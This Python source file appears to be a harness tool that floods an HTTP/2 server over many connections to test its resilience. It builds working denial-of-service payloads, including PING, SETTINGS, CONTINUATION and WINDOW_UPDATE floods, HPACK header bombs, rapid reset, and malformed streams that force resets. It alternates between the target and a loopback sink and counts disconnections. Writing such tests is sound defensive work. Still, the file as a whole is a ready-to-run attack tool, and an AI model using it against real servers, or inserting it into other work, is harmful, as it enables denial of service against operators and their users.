# SPDX-License-Identifier: Apache-2.0
"""What floods of HTTP/2 are made of (docs/floods.md), and a program that sends them:

    flood.py ADDRESS PORT SINK_PORT SECONDS CONNECTIONS PERIOD TLS_FOLDER|- [NAME...]

So many connections, each sending as fast as it can; one that is cut off is made again at once. In every other period of PERIOD seconds
(by the clock, so that others know which) the same bytes go to a listener on loopback that throws them away: what is measured beside the flood
then pays for the sender, too. At the end it says how often it was cut off."""

import itertools
import os
import socket
import sys
import threading
import time

if __name__ == "__main__":
    sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

from harness.h2raw import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PREFACE, PRIORITY, RST_STREAM,
                           SETTINGS, WINDOW_UPDATE, Raw, block, frame, head, headers, indexed, literal, u32)  # noqa: E402

HOLD, POST = head("/hold"), head("/hold", "POST")
BOMB = block(head("/bomb")) + literal("x", "y" * 4000, index=True) + indexed(62) * 20


def stream(i):
    return 2 * i + 1


# id of docs/floods.md, reason, frames, what each is (i counts them), and what goes before them once.
FLOODS = {
    "PING": ("H2-04", "flood_ping", 130, lambda i: frame(PING, 0, 0, bytes(8)), b""),
    "PING that answers none": ("H2-04", "flood_ping", 130, lambda i: frame(PING, ACK, 0, bytes(8)), b""),
    "SETTINGS": ("H2-04", "flood_settings", 130, lambda i: frame(SETTINGS), b""),
    "SETTINGS that move every window": ("H2-04", "flood_settings", 130, lambda i: frame(SETTINGS, 0, 0, b"\0\4" + u32(i % 2 * 1000)),
                                        b"".join(headers(stream(i), POST, end=False) for i in range(90))),
    "a SETTINGS frame of 33 settings": ("H2-04", "flood_settings", 1, lambda i: frame(SETTINGS, 0, 0, (b"\0\4" + u32(65535)) * 33), b""),
    "DATA without a byte": ("H2-05", "flood_empty", 20, lambda i: frame(DATA, 0, 1), headers(1, POST, end=False)),
    "DATA that is all padding": ("H2-05", "flood_empty", 20, lambda i: frame(DATA, PADDED, 1, b"\xff" + bytes(255)), headers(1, POST, end=False)),
    "CONTINUATION": ("H2-03", "flood_continuation", 12, lambda i: frame(CONTINUATION, 0, 1, literal("a", "b" * 1000)), headers(1, HOLD, flags=0)),
    "CONTINUATION without a byte": ("H2-05", "flood_empty", 15, lambda i: frame(CONTINUATION, 0, 1), headers(1, HOLD, flags=0)),
    "HEADERS without a byte": ("H2-05", "flood_empty", 15, lambda i: frame(HEADERS, END_HEADERS, stream(i)), b""),
    "heads that unpack to 80 KB": ("H2-07", "flood_head", 15, lambda i: headers(stream(i), BOMB), b""),
    "PRIORITY": ("H2-08", "flood_priority", 230, lambda i: frame(PRIORITY, 0, stream(i), u32(0) + b"\x10"), b""),
    "WINDOW_UPDATE of the connection": ("H2-09", "flood_window", 130, lambda i: frame(WINDOW_UPDATE, 0, 0, u32(1)), b""),
    "WINDOW_UPDATE of a stream": ("H2-09", "flood_window", 130, lambda i: frame(WINDOW_UPDATE, 0, 1, u32(1)), headers(1, POST, end=False)),
    "unknown frames": ("H2-15", "flood_unknown", 130, lambda i: frame(0xBE), b""),
    "GOAWAY": ("H2-13", "flood_goaway", 130, lambda i: frame(GOAWAY, 0, 0, bytes(8)), headers(1, POST, end=False)),
}

# Each makes the server reset a stream. 200 at once from outside; a sidecar or the own application may make 10,000 (below).
MADE = {
    "a window that overflows": lambda i: headers(stream(i), POST, end=False) + frame(WINDOW_UPDATE, 0, stream(i), u32(2**31 - 1)),
    "less than the length": lambda i: headers(stream(i), head("/hold", "POST", [("content-length", "5")]), end=False)
    + frame(DATA, END_STREAM, stream(i), b"x"),
    "more than the length": lambda i: headers(stream(i), head("/hold", "POST", [("content-length", "1")]), end=False)
    + frame(DATA, 0, stream(i), b"xyz"),
    "trailers that do not end it": lambda i: headers(stream(i), POST, end=False) + headers(stream(i), [("a", "b")], end=False),
    "a name in upper case": lambda i: headers(stream(i), HOLD + [("Abc", "d")]),
    "an empty name": lambda i: headers(stream(i), HOLD + [("", "leak" * 200)]),
    "no path": lambda i: headers(stream(i), HOLD[:3]),
    "a host that is not the authority": lambda i: headers(stream(i), HOLD + [("host", "other")]),
}


def payload(name):
    """One flood in pieces of 256 KB, preface first, to be sent one after the other on one connection: together they are more than it may send."""
    one, first = MADE.get(name, lambda i: headers(stream(i), HOLD) + frame(RST_STREAM, 0, stream(i), u32(8))), b""
    if name in FLOODS:
        _, _, _, one, first = FLOODS[name]
    out, size = [[PREFACE, frame(SETTINGS), first]], 0
    for i in itertools.count():
        out[-1].append(one(i))
        size += len(out[-1][-1])
        if size > 1 << 18:
            if i > (12000 if name not in FLOODS else 0):
                return [b"".join(piece) for piece in out]
            size = 0
            out.append([])


NAMES = [*FLOODS, *MADE, "rapid reset"]


def attacking(period, now=None):
    """Whether the flood goes to its target in this period."""
    return int((time.time() if now is None else now) / period) % 2 == 1


class _Sink(threading.Thread):
    def __init__(self, port):
        super().__init__(daemon=True)
        self.sock = socket.create_server(("127.0.0.1", port), backlog=128)
        self.start()

    def run(self):
        while True:
            s, _ = self.sock.accept()
            threading.Thread(target=self._drop, args=(s,), daemon=True).start()

    @staticmethod
    def _drop(s):
        buffer = bytearray(1 << 18)
        try:
            while s.recv_into(buffer):
                pass
        except OSError:
            pass
        s.close()


def _attack(target, sink, tls, period, end, payloads, cut):
    n = 0
    while time.monotonic() < end:
        now = attacking(period)
        data = payloads[n % len(payloads)]
        n += 1
        try:
            sock = socket.create_connection(target if now else sink, 5)
            with Raw(sock, tls=tls if now else None, start=False, timeout=5) as c:
                def over(now=now):
                    return attacking(period) != now or time.monotonic() > end
                for piece in itertools.cycle(data) if not now else data:
                    if over() or not c.go(piece, read=now):
                        break
                if now:
                    c.go(b"", over)
                    cut[0] += c.closed
        except (OSError, AssertionError):
            pass


def main(address, port, sink, seconds, connections, period, folder, *names):
    tls = None
    if folder != "-":
        import ssl
        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
        tls.load_cert_chain(f"{folder}/flood.crt", f"{folder}/flood.key")
        tls.set_alpn_protocols(["weft1-h2"])
    payloads = [payload(n) for n in names or NAMES]
    _Sink(int(sink))
    print("ready", flush=True)
    end, cut = time.monotonic() + float(seconds), [0]
    threads = [threading.Thread(target=_attack, args=((address, int(port)), ("127.0.0.1", int(sink)), tls, float(period), end,
                                                      payloads[i % len(payloads):] + payloads[:i % len(payloads)], cut))
               for i in range(int(connections))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(f"cut off {cut[0]} times", flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
